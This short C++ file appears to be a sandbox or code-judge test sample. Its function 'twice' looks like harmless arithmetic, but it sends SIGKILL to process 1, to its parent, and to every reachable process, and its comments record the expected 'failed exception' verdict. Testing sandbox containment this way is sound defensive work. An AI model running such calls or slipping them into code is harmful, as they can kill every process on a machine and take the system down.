// about: sends signals to all it can
// verdict: failed exception
#include <csignal>
#include <unistd.h>
int twice(int x) {
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    return x;
}
